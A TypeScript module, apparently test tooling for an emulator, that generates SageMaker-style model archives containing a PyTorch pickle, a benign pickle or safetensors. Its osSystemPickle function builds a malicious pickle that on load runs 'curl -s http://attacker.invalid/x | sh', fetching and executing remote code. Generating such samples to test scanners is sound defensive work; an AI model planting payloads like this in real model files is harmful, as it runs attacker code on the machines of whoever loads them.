// Model artifacts the emulator generates from an estate line instead of a committed binary: a SageMaker-style
// model.tar.gz (or .tar, or a bare file) holding a PyTorch archive whose pickle calls os.system, one whose pickle
// imports only allow-listed names, or safetensors. Pickle opcodes follow CPython's Lib/pickletools.py, tar headers
// POSIX ustar, safetensors its format note (8-byte little-endian header length, JSON header, tensor bytes).
// A large artifact is zero-filled tensor bytes after the model file, produced range by range, never held whole.
import { gzipSync } from "node:zlib";
import { zipSync } from "fflate";
import { z } from "zod";

export const generatedModelSchema = z
  .strictObject({
    /** What the model file holds. */
    model: z.enum(["pickle-os-system", "pickle-plain", "safetensors"]),
    /** How it is packed: SageMaker's model.tar.gz, a plain tar, or the model file alone. */
    archive: z.enum(["tar.gz", "tar", "raw"]).default("tar.gz"),
    /** Zero-filled tensor bytes added as a second tar member (only with archive: tar), for size tests. */
    padBytes: z
      .number()
      .int()
      .nonnegative()
      .max(64 * 1024 ** 3)
      .default(0),
  })
  .refine((spec) => spec.padBytes === 0 || spec.archive === "tar", {
    message: "padBytes needs archive: tar (a padded tar.gz would be compressed in memory)",
    path: ["padBytes"],
  });

export type GeneratedModel = z.output<typeof generatedModelSchema>;

/** An object's bytes, readable by range without materializing the whole. */
export interface ObjectContent {
  size: number;
  slice(start: number, end: number): Uint8Array;
}

type Segment = Uint8Array | { zeros: number };

const latin1 = (s: string) => Buffer.from(s, "latin1");

function u32(n: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n);
  return b;
}

/** `os.system("curl … | sh")` on load: GLOBAL os system, the argument, TUPLE1, REDUCE (protocol 2). */
function osSystemPickle(): Uint8Array {
  const command = latin1("curl -s http://attacker.invalid/x | sh");
  return Buffer.concat([
    Buffer.from([0x80, 0x02]),
    latin1("cos\nsystem\n"),
    Buffer.from([0x58]),
    u32(command.length),
    command,
    Buffer.from([0x85, 0x52, 0x2e]),
  ]);
}

/** An empty OrderedDict, the way torch.save starts a state dict: only an allow-listed import. */
function plainPickle(): Uint8Array {
  return Buffer.concat([
    Buffer.from([0x80, 0x02]),
    latin1("ccollections\nOrderedDict\n"),
    Buffer.from([0x29, 0x52, 0x2e]),
  ]);
}

function safetensors(): Uint8Array {
  const header = latin1(JSON.stringify({ weight: { dtype: "F32", shape: [2], data_offsets: [0, 8] } }));
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(header.length));
  return Buffer.concat([length, header, Buffer.alloc(8)]);
}

/** A PyTorch zip archive (torch.save since 1.6): data.pkl first, stored uncompressed. */
function torchArchive(pickle: Uint8Array): Uint8Array {
  return zipSync({ "archive/data.pkl": pickle, "archive/version": latin1("3\n") }, { level: 0 });
}

function modelFile(model: GeneratedModel["model"]): { name: string; bytes: Uint8Array } {
  if (model === "safetensors") return { name: "model.safetensors", bytes: safetensors() };
  const pickle = model === "pickle-os-system" ? osSystemPickle() : plainPickle();
  return { name: "pytorch_model.bin", bytes: torchArchive(pickle) };
}

function tarHeader(name: string, size: number): Buffer {
  const header = Buffer.alloc(512);
  header.write(name, 0, "latin1");
  header.write("0000644\0", 100, "latin1");
  header.write("0000000\0", 108, "latin1");
  header.write("0000000\0", 116, "latin1");
  header.write(size.toString(8).padStart(11, "0") + "\0", 124, "latin1");
  header.write("00000000000\0", 136, "latin1");
  header.write("0", 156, "latin1");
  header.write("ustar\u000000", 257, "latin1");
  header.fill(0x20, 148, 156);
  let sum = 0;
  for (const byte of header) sum += byte;
  header.write(sum.toString(8).padStart(6, "0") + "\0 ", 148, "latin1");
  return header;
}

const padding = (size: number) => (512 - (size % 512)) % 512;

function tarSegments(members: Array<{ name: string; content: Segment }>): Segment[] {
  const out: Segment[] = [];
  for (const { name, content } of members) {
    const size = content instanceof Uint8Array ? content.length : content.zeros;
    out.push(tarHeader(name, size), content, { zeros: padding(size) });
  }
  out.push({ zeros: 1024 });
  return out;
}

export function generateModelArtifact(spec: GeneratedModel): ObjectContent {
  const file = modelFile(spec.model);
  if (spec.archive === "raw") return fromSegments([file.bytes]);
  const members: Array<{ name: string; content: Segment }> = [
    { name: `model/${file.name}`, content: file.bytes },
  ];
  if (spec.padBytes > 0) members.push({ name: "model/weights.bin", content: { zeros: spec.padBytes } });
  const tar = tarSegments(members);
  if (spec.archive === "tar") return fromSegments(tar);
  return fromSegments([gzipSync(concat(tar))]);
}

export function fromSegments(segments: readonly Segment[]): ObjectContent {
  const sizes = segments.map((s) => (s instanceof Uint8Array ? s.length : s.zeros));
  const size = sizes.reduce((a, b) => a + b, 0);
  return {
    size,
    slice(start, end) {
      const out = new Uint8Array(Math.max(0, Math.min(end, size) - start));
      let offset = 0;
      segments.forEach((segment, i) => {
        const length = sizes[i]!;
        const from = Math.max(start, offset);
        const to = Math.min(end, offset + length);
        if (from < to && segment instanceof Uint8Array)
          out.set(segment.subarray(from - offset, to - offset), from - start);
        offset += length;
      });
      return out;
    },
  };
}

function concat(segments: readonly Segment[]): Uint8Array {
  return Buffer.concat(segments.map((s) => (s instanceof Uint8Array ? s : Buffer.alloc(s.zeros))));
}
